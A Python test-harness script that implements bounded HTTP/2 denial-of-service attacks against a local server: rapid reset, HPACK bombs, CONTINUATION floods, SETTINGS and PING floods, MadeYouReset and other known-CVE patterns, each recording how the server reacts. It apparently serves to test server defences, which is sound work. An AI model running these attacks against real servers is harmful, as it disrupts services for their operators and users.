#!/usr/bin/env python3
"""The attacks. Each runs in its own process (so the harness's sampler and
the legitimate client never wait on this process's GIL), against one server
on 127.0.0.1, for a bounded time, and prints one JSON object: what was sent
and what the server answered.

    attacks.py list
    attacks.py run NAME --port PORT [--duration S]

Every attack is bounded in time (--duration), in connections and, where the
server could be made to store without limit, in bytes (--max-upload).
"""
import argparse
import collections
import json
import os
import random
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h2raw import (CONTINUATION, Conn, HOST, PING, PREFACE, S_INITIAL_WINDOW_SIZE,  # noqa: E402
                   S_MAX_CONCURRENT_STREAMS, SETTINGS, continuation, data, error_name, frame, frame_header,
                   headers, hp_literal, hp_literal_huffman_a, nonblocking_connect_many, ping, priority, priority_update,
                   request_block, rst_stream, settings, wait_fd, window_update)

# Files the harness puts in the document root (run.py make_root()).
SMALL = b'/index.html'      # a few hundred octets
BIG = b'/big.bin'           # 16 MiB: a response that outlives any window we give
HUGE = b'/huge.bin'         # 1 GiB (sparse): "a large file never read"

ATTACKS = collections.OrderedDict()


def attack(name, title, unit, *, kind='flood', legit=False, timeouts=False, cve=None, reconnect=None):
    """kind: what the table calls the attack class; legit: a pattern that
    must NOT be cut off; timeouts: the reaction is a timeout (runs longer);
    reconnect: once cut off, the attacker opens a new connection and starts
    again until the time is up (default: single-connection attacks that are
    not legit patterns)."""
    def register(fn):
        ATTACKS[name] = {'fn': fn, 'name': name, 'title': title, 'unit': unit, 'kind': kind,
                         'legit': legit, 'timeouts': timeouts, 'cve': cve, 'doc': (fn.__doc__ or '').strip(),
                         'reconnect': (not legit and not timeouts) if reconnect is None else reconnect}
        return fn
    return register


class Ctx:
    def __init__(self, port, duration, max_upload):
        self.port = port
        self.duration = duration
        self.max_upload = max_upload
        self.t0 = time.monotonic()
        self.deadline = self.t0 + duration
        self.notes = []

    def running(self):
        return time.monotonic() < self.deadline

    def left(self):
        return max(0.0, self.deadline - time.monotonic())

    def elapsed(self):
        return time.monotonic() - self.t0


# ------------------------------------------------------------------ helpers


def handshake(c, timeout=2.0):
    """Wait for the server's SETTINGS and ACK it, so that nothing needs to be
    sent later while a header block is open."""
    c.pump_until(lambda: c.settings_seen, timeout)
    c.flush()
    return c.settings_seen


def open_streams(c, n, path=BIG, first_sid=1, timeout=3.0):
    """Open n GET streams; returns the ids the server answered and left open
    (response HEADERS seen, not ended, not reset)."""
    sids = list(range(first_sid, first_sid + 2 * n, 2))
    blk = request_block(path=path)
    for s in sids:
        c.follow(s)
    c.send(b''.join(headers(s, blk) for s in sids), frames=n)
    c.pump_until(lambda: all(c.watch[s]['headers'] or c.watch[s]['rst'] is not None for s in sids), timeout)
    return [s for s in sids if c.watch[s]['headers'] and not c.watch[s]['end'] and c.watch[s]['rst'] is None]


def hold(ctx, conns, on_tick=None, tick=0.1):
    """Keep connections open until the deadline, reading what the server
    sends (and noticing when it closes)."""
    p = select.poll()
    by_fd = {}
    for c in conns:
        if c.alive():
            by_fd[c.sock.fileno()] = c
            p.register(c.sock, select.POLLIN | select.POLLRDHUP)
    next_tick = time.monotonic() + tick
    while ctx.running():
        for fd, _ in p.poll(min(100, max(1, int(ctx.left() * 1000)))):
            c = by_fd.get(fd)
            if c is None:
                continue
            c.pump()
            if c.closed:
                p.unregister(fd)
                del by_fd[fd]
        if on_tick and time.monotonic() >= next_tick:
            on_tick()
            next_tick = time.monotonic() + tick


def loop_send(ctx, c, payload, frames, units, read=True, ctl_at=0, block_timeout=1.0):
    """Send the same batch until the deadline or until the server closes.
    Without reading, a FIN from the server is noticed with POLLRDHUP."""
    fin = None
    while ctx.running() and c.alive():
        c.send(payload, frames=frames, units=units, read=read, ctl_at=ctl_at, block_timeout=block_timeout)
        if read:
            c.pump()
        elif fin is None and wait_fd(c.sock, read=False, rdhup=True) & select.POLLRDHUP:
            fin = ctx.elapsed()
    if not read:
        mib = c.bytes_sent / 2**20
        if fin is not None:
            ctx.notes.append(f'server FIN at {fin:.2f} s; {mib:,.0f} MiB accepted by then and after')
        else:
            ctx.notes.append(f'{mib:,.0f} MiB accepted')
    if c.blocked and not c.closed:
        ctx.notes.append('server stopped reading (send blocked)')


def fmt(n):
    return f'{n:,}'


def by_stream(per_stream=1.0, what=None):
    """GOAWAY text for attacks with one stream per unit: the server's last
    stream id says how many it processed (what we had sent is larger)."""
    def text(g, unit):
        n = int((g['last_stream_id'] + 1) // 2 * per_stream)
        return f'at ~{fmt(n)} {what or unit} (last stream {fmt(g["last_stream_id"])}; {fmt(g["units"])} sent)'
    return text


def result(ctx, conns, unit, must_not_cut_off=False, after=None, **extra):
    sums = [c.summary() for c in conns]
    n = len(conns)
    units = sum(s['units'] for s in sums)
    gconns = [s for s in sums if s['goaway']]
    closed = [s for s in sums if s['closed']]
    rst = collections.Counter()
    statuses = collections.Counter()
    for s in sums:
        rst.update(s['rst'])
        statuses.update(s['statuses'])
    first_goaway = min((s['goaway'] for s in gconns), key=lambda g: g['t'], default=None)
    goaway_codes = collections.Counter(s['goaway']['error'] for s in gconns)
    parts = []
    if first_goaway:
        g = first_goaway
        dbg = f' "{g["debug"][:72]}"' if g['debug'] else ''
        if n == 1:
            where = after(g, unit) if after else f'within {fmt(g["units"])} {unit} sent'
            parts.append(f'GOAWAY {g["error"]}{dbg} {where} at {g["t"]:.2f} s')
        else:
            codes = ', '.join(f'{k} {v}/{n}' for k, v in goaway_codes.items())
            parts.append(f'GOAWAY {codes} conns{dbg} (first at {g["t"]:.1f} s)')
    if rst:
        parts.append('RST_STREAM ' + ', '.join(f'{fmt(v)} {k}' for k, v in rst.most_common(3)))
    if closed:
        ts = sorted(s['closed_t'] for s in closed)
        if n == 1:
            parts.append(f'{"FIN" if closed[0]["closed"] == "eof" else "reset"} at {ts[0]:.1f} s')
        else:
            parts.append(f'closed {len(closed)}/{n} (first {ts[0]:.1f} s, last {ts[-1]:.1f} s)')
    if not parts:
        parts.append('none')
    reaction = '; '.join(parts)
    if must_not_cut_off:
        cut = bool(gconns) or bool(closed)
        reaction = ('CUT OFF: ' if cut else 'not cut off; ') + reaction
    out = {
        'unit': unit, 'units': units, 'connections': n, 'goaway_conns': len(gconns),
        'goaway_codes': dict(goaway_codes), 'first_goaway': first_goaway, 'closed_conns': len(closed),
        'rst': dict(rst), 'responses': sum(s['responses'] for s in sums), 'statuses': dict(statuses),
        'bytes_sent': sum(s['bytes_sent'] for s in sums), 'frames_sent': sum(s['frames_sent'] for s in sums),
        'bytes_recv': sum(s['bytes_recv'] for s in sums),
        'blocked_conns': sum(1 for s in sums if s['blocked']),
        'notes': ctx.notes, 'reaction': reaction, 'elapsed': round(ctx.elapsed(), 2),
    }
    if must_not_cut_off:
        out['cut_off'] = bool(gconns) or bool(closed)
    if n <= 4:
        out['conns'] = sums
    out.update(extra)
    return out


# ------------------------------------------------------------------ 1. header-block straddle


def _straddle(ctx, chunks, batch, priming=None, unit='requests'):
    c = Conn(ctx.port)
    handshake(c)
    sid = 1
    if priming is not None:
        c.send(headers(sid, priming), frames=1, units=1)
        sid += 2
        c.pump(0.05)
    last = len(chunks) - 1

    def head(s):
        return headers(s, chunks[0], end_stream=True, end_headers=last == 0)

    def tail(s):
        return b''.join(continuation(s, ch, end_headers=j == last) for j, ch in enumerate(chunks[1:], 1))

    c.send(head(sid), frames=1, ctl_at=None)
    opened = c.units + 1
    while ctx.running() and c.alive() and sid < 0x7fff0000:
        # at most ~96 streams in flight (the servers allow 100): a client
        # over the limit is refused, which is not this attack
        c.pump_until(lambda: opened - c.finished() <= max(1, 96 - batch), 2.0)
        opened += batch
        parts = []
        ctl_at = None
        for _ in range(batch):
            t = tail(sid)
            parts.append(t)
            if ctl_at is None:
                ctl_at = len(t)   # between request k's last CONTINUATION and k+1's HEADERS
            sid += 2
            parts.append(head(sid))
        c.send(b''.join(parts), frames=batch * len(chunks), units=batch, ctl_at=ctl_at)
        c.pump()
    c.drain(0.3)
    ctx.notes.append(f'{fmt(c.statuses.get(200, 0))} answered 200')
    return result(ctx, [c], unit, after=by_stream(), responses_200=c.statuses.get(200, 0))


@attack('straddle-60k', 'Header-block straddle, 60 KB header lists (Huffman-coded literals)', 'requests',
        kind='memory')
def straddle_60k(ctx):
    """Every write ends inside the next request's header block: the last
    CONTINUATION of request k, then a small HEADERS of request k+1 (its
    first 64 octets, no END_HEADERS: a small frame so that the server's
    read() does not end inside it). Each request carries 15 literal fields
    without indexing whose values are 4,000 octets Huffman-coded into 2,500
    (~60 KB decoded, under a 64 KiB header-list limit; 37.6 KB on the wire:
    HEADERS + 3 CONTINUATION)."""
    fields = b''.join(hp_literal_huffman_a(b'x-h%02d' % i, 4000) for i in range(15))
    return _straddle(ctx, _small_head_chunks(request_block() + fields), batch=1)


def _small_head_chunks(block, head=64):
    return [block[:head]] + [block[i:i + 16384] for i in range(head, len(block), 16384)]


@attack('straddle-60k-raw', 'Header-block straddle, 60 KB header lists (plain literals, no Huffman)', 'requests',
        kind='memory')
def straddle_60k_raw(ctx):
    """As straddle-60k with the values sent as plain octets (a decoder can
    point into its input instead of copying them)."""
    fields = b''.join(hp_literal(b'x-h%02d' % i, b'a' * 4000) for i in range(15))
    return _straddle(ctx, _small_head_chunks(request_block() + fields), batch=1)


@attack('straddle-indexed', 'Header-block straddle with HPACK indexing (~50 octets per 60 KB request)',
        'requests', kind='memory')
def straddle_indexed(ctx):
    """As straddle-60k, but one 4,000-octet field is put in the dynamic
    table once and every request references it 15 times: about 50 octets
    on the wire (HEADERS + CONTINUATION) decode to a 60 KB header list."""
    priming = request_block() + hp_literal(b'x-a', b'a' * 4000, 'inc')
    block = request_block() + b'\xbe' * 15      # dynamic index 62, fifteen times
    half = len(block) // 2
    return _straddle(ctx, [block[:half], block[half:]], batch=64, priming=priming)


@attack('hpack-bomb', 'HPACK bombs back to back over CONTINUATION (straddled)', 'requests', kind='memory')
def hpack_bomb(ctx):
    """A 4,000-octet field in the dynamic table, then requests whose header
    block (HEADERS + one 16 KiB CONTINUATION) references it 16,384 times
    (66 MB decoded per request), every write ending inside the next block."""
    priming = request_block() + hp_literal(b'x-b', b'b' * 4000, 'inc')
    return _straddle(ctx, [request_block(), b'\xbe' * 16384], batch=1, priming=priming)


# ------------------------------------------------------------------ 2. SETTINGS work


@attack('settings-iws-flip', 'SETTINGS of 2,730 INITIAL_WINDOW_SIZE entries, 100 open streams', 'entries',
        kind='cpu')
def settings_iws_flip(ctx):
    """100 streams held open at window 0, then SETTINGS frames of 2,730
    INITIAL_WINDOW_SIZE entries alternating 1 and 0 (each a walk over every
    stream if applied one by one), four frames per write, at most 64
    unacknowledged (ACKs read as they come)."""
    c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0)])
    handshake(c)
    opened = open_streams(c, 100)
    ctx.notes.append(f'{len(opened)} streams open')
    payload = b''.join(struct.pack('>HI', S_INITIAL_WINDOW_SIZE, 1 - (i & 1)) for i in range(2730))
    f = frame(SETTINGS, 0, 0, payload)
    base = c.settings_acks
    sent = 0
    while ctx.running() and c.alive():
        # a client that reads its ACKs: at most 64 frames unacknowledged
        c.pump_until(lambda: sent - (c.settings_acks - base) <= 60, 2.0)
        c.send(f * 4, frames=4, units=4 * 2730)
        sent += 4
        c.pump()
    c.drain(0.3)
    acked = c.settings_acks - base
    ctx.notes.append(f'{fmt(acked)} of these SETTINGS ACKed')
    return result(ctx, [c], 'entries', settings_acked=acked,
                  after=lambda g, u: f'after {fmt((g["settings_acks"] - base) * 2730)} entries processed '
                                     f'({fmt(g["settings_acks"] - base)} frames ACKed, {fmt(g["units"])} sent)')


@attack('settings-iws-flip-flood', 'As settings-iws-flip without waiting for ACKs (read as they come)', 'entries',
        kind='cpu')
def settings_iws_flip_flood(ctx):
    """The same SETTINGS frames of 2,730 INITIAL_WINDOW_SIZE entries with
    100 streams open, four frames per write as fast as the server takes
    them; ACKs are read after every write but not waited for."""
    c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0)])
    handshake(c)
    opened = open_streams(c, 100)
    ctx.notes.append(f'{len(opened)} streams open')
    payload = b''.join(struct.pack('>HI', S_INITIAL_WINDOW_SIZE, 1 - (i & 1)) for i in range(2730))
    base = c.settings_acks
    loop_send(ctx, c, frame(SETTINGS, 0, 0, payload) * 4, frames=4, units=4 * 2730)
    c.drain(0.3)
    acked = c.settings_acks - base
    ctx.notes.append(f'{fmt(acked)} of these SETTINGS ACKed')
    return result(ctx, [c], 'entries', settings_acked=acked,
                  after=lambda g, u: f'after {fmt((g["settings_acks"] - base) * 2730)} entries ACKed '
                                     f'({fmt(g["units"])} sent)')


# ------------------------------------------------------------------ 3. rapid reset


@attack('rapid-reset', 'Rapid reset: HEADERS + RST_STREAM bursts', 'resets', kind='rapid-reset',
        cve='CVE-2023-44487')
def rapid_reset(ctx):
    """Bursts of 1,000 x (HEADERS GET /index.html + RST_STREAM CANCEL)."""
    c = Conn(ctx.port)
    handshake(c)
    blk = request_block()
    sid = 1
    while ctx.running() and c.alive() and sid < 0x7fff0000:
        burst = b''.join(headers(s, blk) + rst_stream(s) for s in range(sid, sid + 2000, 2))
        sid += 2000
        c.send(burst, frames=2000, units=1000)
        c.pump()
    c.drain(0.3)
    return result(ctx, [c], 'resets', after=by_stream())


@attack('rapid-reset-alternating', 'Rapid reset bypass: one reset request, one completed request, alternating',
        'resets', kind='rapid-reset', cve='CVE-2023-44487')
def rapid_reset_alternating(ctx):
    """Writes of 40 x (HEADERS + RST_STREAM on one stream, then a complete
    GET /index.html on the next), the next write once the completed
    requests are answered: resets minus completions stays at zero."""
    c = Conn(ctx.port)
    handshake(c)
    blk = request_block()
    sid = 1
    completed = 0
    while ctx.running() and c.alive() and sid < 0x7fff0000:
        # 40 pairs per write, the next write once those completed requests
        # are answered: never over the server's 100 concurrent streams
        c.pump_until(lambda: completed - c.finished() <= 8, 2.0)
        burst = b''.join(headers(s, blk) + rst_stream(s) + headers(s + 2, blk) for s in range(sid, sid + 160, 4))
        sid += 160
        completed += 40
        c.send(burst, frames=120, units=40)
        c.pump()
    c.drain(0.3)
    ctx.notes.append(f'{fmt(c.statuses.get(200, 0))} completed requests answered 200')
    return result(ctx, [c], 'resets', after=by_stream(0.5), responses_200=c.statuses.get(200, 0))


# ------------------------------------------------------------------ 4. legitimate cancellation patterns


@attack('legit-longpoll-cancel', 'Legit: one long-poll at a time, opened and cancelled, all run long',
        'cancels', kind='legit', legit=True)
def legit_longpoll_cancel(ctx):
    """One stream at a time: GET /big.bin at window 0 (a response that
    never finishes: a long-poll), wait for its response HEADERS, 4 ms more,
    RST_STREAM CANCEL, next. Must never be cut off."""
    c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0)])
    handshake(c)
    blk = request_block(path=BIG)
    sid = 1
    unanswered = 0
    while ctx.running() and c.alive():
        w = c.follow(sid)
        c.send(headers(sid, blk), frames=1)
        if not c.pump_until(lambda: w['headers'] or w['rst'] is not None, 2.0):
            unanswered += 1
        time.sleep(0.004)
        c.send(rst_stream(sid), frames=1, units=1)
        del c.watch[sid]
        sid += 2
    c.drain(0.2)
    ctx.notes.append(f'{fmt(c.units)} cancels, {c.units / max(ctx.elapsed(), 0.1):.0f}/s')
    if unanswered:
        ctx.notes.append(f'{unanswered} long-polls not answered within 2 s')
    return result(ctx, [c], 'cancels', must_not_cut_off=True, unanswered=unanswered)


@attack('legit-cancel-60pct', 'Legit: 60% of requests cancelled after the response started or a short wait',
        'requests', kind='legit', legit=True)
def legit_cancel_60pct(ctx):
    """Rounds of five requests: three GET /big.bin (window 16 KiB) cancelled
    - two after their response HEADERS, one after 1 ms whatever happened -
    and two GET /index.html read to the end. Must never be cut off."""
    c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 16384)])
    handshake(c)
    c.send(window_update(0, 1 << 24))
    big = request_block(path=BIG)
    small = request_block()
    sid = 1
    cancels = 0
    while ctx.running() and c.alive() and sid < 0x7fff0000:
        a, b, cc, d, e = range(sid, sid + 10, 2)
        sid += 10
        ws = {s: c.follow(s) for s in (a, b, cc, d, e)}
        c.send(headers(a, big) + headers(b, small) + headers(cc, big) + headers(d, small) + headers(e, big),
               frames=5, units=5)
        time.sleep(0.001)
        c.send(rst_stream(cc), frames=1)
        c.pump_until(lambda: all(ws[s]['headers'] or ws[s]['rst'] is not None for s in (a, e)), 2.0)
        c.send(rst_stream(a) + rst_stream(e), frames=2)
        cancels += 3
        c.pump_until(lambda: all(ws[s]['end'] or ws[s]['rst'] is not None for s in (b, d)), 2.0)
        for s in ws:
            del c.watch[s]
    c.drain(0.2)
    rate = c.units / max(ctx.elapsed(), 0.1)
    ctx.notes.append(f'{fmt(c.units)} requests ({rate:.0f}/s), {fmt(cancels)} cancelled, '
                     f'{fmt(c.statuses.get(200, 0))} answered 200')
    return result(ctx, [c], 'requests', must_not_cut_off=True, cancels=cancels)


# ------------------------------------------------------------------ 5. empty and useless frames


def _open_echo(c, sid=1):
    c.send(headers(sid, request_block(b'POST', b'/echo'), end_stream=False), frames=1)


@attack('empty-data-flood', 'Empty DATA frames on an open POST stream', 'frames', kind='empty-frames',
        cve='CVE-2019-9518')
def empty_data_flood(ctx):
    """POST /echo left open, then 2,000 empty DATA frames per write."""
    c = Conn(ctx.port)
    handshake(c)
    _open_echo(c)
    loop_send(ctx, c, data(1) * 2000, frames=2000, units=2000)
    c.drain(0.3)
    return result(ctx, [c], 'frames')


@attack('empty-continuation-flood', 'Zero-length CONTINUATION frames after HEADERS', 'frames',
        kind='empty-frames', cve='CVE-2019-9518')
def empty_continuation_flood(ctx):
    """HEADERS without END_HEADERS, then zero-length CONTINUATION frames."""
    c = Conn(ctx.port)
    handshake(c)
    c.send(headers(1, request_block(), end_headers=False), frames=1, ctl_at=None)
    f = continuation(1, b'', end_headers=False) * 2000
    while ctx.running() and c.alive():
        c.send(f, frames=2000, units=2000, ctl_at=None)
        c.pump()
    c.drain(0.3)
    return result(ctx, [c], 'frames')


@attack('unknown-frame-flood', 'Empty frames of an unknown type (0xfa)', 'frames', kind='empty-frames')
def unknown_frame_flood(ctx):
    """2,000 empty frames of type 0xfa on stream 0 per write (RFC 9113 §4.1:
    ignored - but each costs the server a frame's work)."""
    c = Conn(ctx.port)
    handshake(c)
    loop_send(ctx, c, frame(0xfa, 0, 0) * 2000, frames=2000, units=2000)
    c.drain(0.3)
    return result(ctx, [c], 'frames')


@attack('priority-flood', 'PRIORITY frames on idle streams', 'frames', kind='empty-frames')
def priority_flood(ctx):
    """2,000 PRIORITY frames per write, each on a new idle stream."""
    c = Conn(ctx.port)
    handshake(c)
    sid = 1
    while ctx.running() and c.alive() and sid < 0x7fff0000:
        c.send(b''.join(priority(s, 0) for s in range(sid, sid + 4000, 2)), frames=2000, units=2000)
        sid += 4000
        c.pump()
    c.drain(0.3)
    return result(ctx, [c], 'frames')


@attack('empty-frames-wu-bypass', 'Empty-frame limit bypass: 9 empty DATA + one 1-octet WINDOW_UPDATE',
        'frames', kind='empty-frames', cve='CVE-2019-9518')
def empty_frames_wu_bypass(ctx):
    """POST /echo open; per ten frames: nine empty DATA and a connection
    WINDOW_UPDATE of 1 (a 'useful' frame that resets a naive counter)."""
    c = Conn(ctx.port)
    handshake(c)
    _open_echo(c)
    loop_send(ctx, c, (data(1) * 9 + window_update(0, 1)) * 200, frames=2000, units=2000)
    c.drain(0.3)
    return result(ctx, [c], 'frames')


# ------------------------------------------------------------------ 6. PING


@attack('ping-flood-read', 'PING flood, 2,000 per write, every ACK read before the next write', 'pings',
        kind='control')
def ping_flood_read(ctx):
    """A client that reads everything but pipelines 2,000 PINGs per write
    (more than a 1,000-frame queue limit per server read)."""
    c = Conn(ctx.port)
    handshake(c)
    batch = b''.join(ping(struct.pack('>Q', i)) for i in range(2000))
    while ctx.running() and c.alive():
        c.send(batch, frames=2000, units=2000)
        c.pump_until(lambda: c.ping_acks >= c.units, 2.0)
    c.drain(0.3)
    ctx.notes.append(f'{fmt(c.ping_acks)} PING ACKs')
    return result(ctx, [c], 'pings', ping_acks=c.ping_acks,
                  after=lambda g, u: f'after {fmt(g["ping_acks"])} PINGs answered ({fmt(g["units"])} sent)')


@attack('ping-flood-noread', 'PING flood, never reading the ACKs', 'pings', kind='control',
        cve='CVE-2019-9512')
def ping_flood_noread(ctx):
    """2,000 PINGs per write; the socket is never read until the end."""
    c = Conn(ctx.port)
    handshake(c)
    batch = b''.join(ping(struct.pack('>Q', i)) for i in range(2000))
    loop_send(ctx, c, batch, frames=2000, units=2000, read=False, block_timeout=0.5)
    c.drain(1.0)
    ctx.notes.append(f'{fmt(c.ping_acks)} PING ACKs read at the end')
    return result(ctx, [c], 'pings', ping_acks=c.ping_acks,
                  after=lambda g, u: f'after {fmt(g["ping_acks"])} PINGs answered')


# ------------------------------------------------------------------ 7. CVE-2019-951x


@attack('data-dribble', 'Data dribble: 100 x 16 MiB responses at window 0, 1-octet WINDOW_UPDATEs',
        'window-updates', kind='flow-control', cve='CVE-2019-9511')
def data_dribble(ctx):
    """Window 0, 100 streams of /big.bin, then rounds of a 1-octet
    WINDOW_UPDATE per stream (+ the connection), so the server must cut
    its responses into 1-octet DATA frames; the DATA is read."""
    c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0)], auto_window=False)
    handshake(c)
    opened = open_streams(c, 100)
    ctx.notes.append(f'{len(opened)} streams open')
    if opened:
        rnd = b''.join(window_update(s, 1) for s in opened) + window_update(0, len(opened))
        rounds = 0
        while ctx.running() and c.alive():
            c.pump_until(lambda: c.data_bytes >= (rounds - 4) * len(opened), 2.0)
            c.send(rnd, frames=len(opened) + 1, units=len(opened) + 1)
            rounds += 1
            c.pump()
    c.drain(0.3)
    ctx.notes.append(f'{fmt(c.recv_frames.get(0, 0))} DATA frames, {fmt(c.data_bytes)} octets received')
    return result(ctx, [c], 'window-updates')


@attack('priority-shuffle', 'PRIORITY shuffling over 100 open streams', 'frames', kind='cpu',
        cve='CVE-2019-9513')
def priority_shuffle(ctx):
    """100 streams held open (window 0); PRIORITY frames that move random
    streams under random others, exclusive half the time."""
    c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0)])
    handshake(c)
    opened = open_streams(c, 100) or list(range(1, 201, 2))
    rng = random.Random(9513)
    batches = []
    for _ in range(16):
        out = []
        for _ in range(2000):
            s, d = rng.sample(opened, 2)
            out.append(priority(s, d, rng.randint(1, 256), rng.random() < 0.5))
        batches.append(b''.join(out))
    i = 0
    while ctx.running() and c.alive():
        c.send(batches[i % len(batches)], frames=2000, units=2000)
        i += 1
        c.pump()
    c.drain(0.3)
    return result(ctx, [c], 'frames')


@attack('reset-flood-invalid', 'Reset flood: invalid requests the server must reset, never read',
        'requests', kind='control', cve='CVE-2019-9514')
def reset_flood_invalid(ctx):
    """HEADERS with an uppercase field name (malformed, RFC 9113 §8.2.1), 1,000
    per write; the socket is not read, so the server's RST_STREAMs queue."""
    c = Conn(ctx.port)
    handshake(c)
    blk = request_block(extra=hp_literal(b'X-Bad', b'1'))
    sid = 1
    while ctx.running() and c.alive() and sid < 0x7fff0000:
        c.send(b''.join(headers(s, blk) for s in range(sid, sid + 2000, 2)), frames=1000, units=1000,
               read=False, block_timeout=0.5)
        sid += 2000
    ctx.notes.append(f'{c.bytes_sent / 2**20:,.0f} MiB accepted')
    c.drain(1.0)
    return result(ctx, [c], 'requests', after=by_stream())


@attack('settings-flood', 'SETTINGS flood, ACKs never read', 'frames', kind='control', cve='CVE-2019-9515')
def settings_flood(ctx):
    """2,000 one-entry SETTINGS frames per write, socket not read."""
    c = Conn(ctx.port)
    handshake(c)
    loop_send(ctx, c, settings((S_MAX_CONCURRENT_STREAMS, 100)) * 2000, frames=2000, units=2000, read=False,
              block_timeout=0.5)
    c.drain(1.0)
    ctx.notes.append(f'{fmt(c.settings_acks)} SETTINGS ACKs read at the end')
    return result(ctx, [c], 'frames', after=lambda g, u: f'after {fmt(g["settings_acks"] - 1)} SETTINGS ACKed')


@attack('zero-length-headers', 'Requests with 1,000 zero-length header fields', 'requests', kind='memory',
        cve='CVE-2019-9516')
def zero_length_headers(ctx):
    """Each request: 500 literal fields with incremental indexing and empty
    name and value (each a 32-octet table entry) and 500 without indexing
    with Huffman-flagged empty strings; ten requests per write, read."""
    c = Conn(ctx.port)
    handshake(c)
    blk = request_block(extra=b'\x40\x00\x00' * 500 + b'\x00\x80\x80' * 500)
    sid = 1
    while ctx.running() and c.alive() and sid < 0x7fff0000:
        c.pump_until(lambda: c.units - c.finished() <= 40, 2.0)
        c.send(b''.join(headers(s, blk) for s in range(sid, sid + 20, 2)), frames=10, units=10)
        sid += 20
        c.pump()
    c.drain(0.3)
    return result(ctx, [c], 'requests', after=by_stream())


@attack('window0-many-streams', 'Slow reader: 20 connections x 100 streams of 16 MiB at window 0', 'streams',
        kind='memory', cve='CVE-2019-9517', reconnect=False)
def window0_many_streams(ctx):
    """20 connections, each SETTINGS_INITIAL_WINDOW_SIZE 0 and 100 GET
    /big.bin; frames are read, no window is ever given."""
    conns = []
    for _ in range(20):
        if not ctx.running():
            break
        try:
            c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0)])
        except OSError as e:
            ctx.notes.append(f'connect failed: {e}')
            break
        handshake(c, 1.0)
        blk = request_block(path=BIG)
        c.send(b''.join(headers(s, blk) for s in range(1, 201, 2)), frames=100, units=100)
        conns.append(c)
    hold(ctx, conns, on_tick=lambda: [c.flush() for c in conns if c.alive()])
    return result(ctx, conns, 'streams')


@attack('large-file-unread', 'Large responses never read: 10 x 1 GiB at maximal windows', 'streams',
        kind='memory', cve='CVE-2019-9517')
def large_file_unread(ctx):
    """Windows opened to 2^31-1 (stream and connection), 10 GET /huge.bin,
    then the socket is never read: the server can only buffer or wait."""
    c = Conn(ctx.port, client_settings=[(S_INITIAL_WINDOW_SIZE, 0x7fffffff)], auto_window=False)
    handshake(c)
    c.send(window_update(0, 0x7fffffff - 65535))
    blk = request_block(path=HUGE)
    c.send(b''.join(headers(s, blk) for s in range(1, 21, 2)), frames=10, units=10)
    _wait_close_unread(ctx, c)
    return result(ctx, [c], 'streams')


def _wait_close_unread(ctx, c):
    """Until the deadline, notice (without reading) whether the server closes."""
    p = select.poll()
    p.register(c.sock, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
    while ctx.running():
        ev = p.poll(min(100, max(1, int(ctx.left() * 1000))))
        if ev:
            c._mark_closed('eof' if ev[0][1] & select.POLLRDHUP else 'reset')
            break


# ------------------------------------------------------------------ 8. MadeYouReset


@attack('madeyoureset-window', 'MadeYouReset: HEADERS + stream WINDOW_UPDATE overflow, 40 per write', 'requests',
        kind='rapid-reset', cve='CVE-2025-8671')
def madeyoureset_window(ctx):
    """40 x (GET /index.html + WINDOW_UPDATE 2^31-1 on the same stream)
    per write (at most ~50 streams in flight): the overflow is a stream error, so the server resets a
    stream the application already started (no RST_STREAM from us)."""
    c = Conn(ctx.port)
    handshake(c)
    blk = request_block()
    sid = 1
    while ctx.running() and c.alive() and sid < 0x7fff0000:
        c.pump_until(lambda: c.units - c.finished() <= 10, 2.0)
        c.send(b''.join(headers(s, blk) + window_update(s, 0x7fffffff) for s in range(sid, sid + 80, 2)),
               frames=80, units=40)
        sid += 80
        c.pump()
    c.drain(0.3)
    return result(ctx, [c], 'requests', after=by_stream())


@attack('madeyoureset-content-length', 'MadeYouReset: POST content-length 0 + 1 octet of DATA', 'requests',
        kind='rapid-reset', cve='CVE-2025-8671')
def madeyoureset_content_length(ctx):
    """40 x (POST /echo with content-length: 0, then DATA of 1 octet with
    END_STREAM) per write (at most ~50 streams in flight): malformed (RFC 9113 §8.1.1), the server resets."""
    c = Conn(ctx.port)
    handshake(c)
    blk = request_block(b'POST', b'/echo', hp_literal(28, b'0'))
    sid = 1
    while ctx.running() and c.alive() and sid < 0x7fff0000:
        c.pump_until(lambda: c.units - c.finished() <= 10, 2.0)
        c.send(b''.join(headers(s, blk, end_stream=False) + data(s, b'x', end_stream=True)
                        for s in range(sid, sid + 80, 2)), frames=80, units=40)
        sid += 80
        c.pump()
    c.drain(0.3)
    return result(ctx, [c], 'requests', after=by_stream())


# ------------------------------------------------------------------ 9. CONTINUATION floods


def _field_4096():
    f = hp_literal(b'x-c', b'c' * 4088)
    assert len(f) == 4096
    return f


@attack('continuation-flood', 'Endless CONTINUATION: one header block that never ends, 16 KiB frames',
        'frames', kind='memory', cve='CVE-2024-27316')
def continuation_flood(ctx):
    """HEADERS without END_HEADERS, then 16 KiB CONTINUATION frames of
    4 KiB literal fields, four per write, never END_HEADERS."""
    c = Conn(ctx.port)
    handshake(c)
    c.send(headers(1, request_block(), end_headers=False), frames=1, ctl_at=None)
    f = continuation(1, _field_4096() * 4, end_headers=False)
    while ctx.running() and c.alive():
        c.send(f * 4, frames=4, units=4, ctl_at=None)
        c.pump()
    c.drain(0.3)
    return result(ctx, [c], 'frames')


@attack('continuation-tiny', 'CONTINUATION flood of 1-octet frames', 'frames', kind='memory')
def continuation_tiny(ctx):
    """HEADERS without END_HEADERS, then CONTINUATION frames of one octet
    each (4,096 per write), never END_HEADERS."""
    c = Conn(ctx.port)
    handshake(c)
    c.send(headers(1, request_block(), end_headers=False), frames=1, ctl_at=None)
    hdr = frame_header(CONTINUATION, 0, 1, 1)
    batch = b''.join(hdr + bytes([b]) for b in _field_4096())
    while ctx.running() and c.alive():
        c.send(batch, frames=4096, units=4096, ctl_at=None)
        c.pump()
    c.drain(0.3)
    return result(ctx, [c], 'frames')


# ------------------------------------------------------------------ 10. echo upload


@attack('echo-upload-flood', 'Echo upload flood: POST /echo on 100 streams, echo never read', 'MiB uploaded',
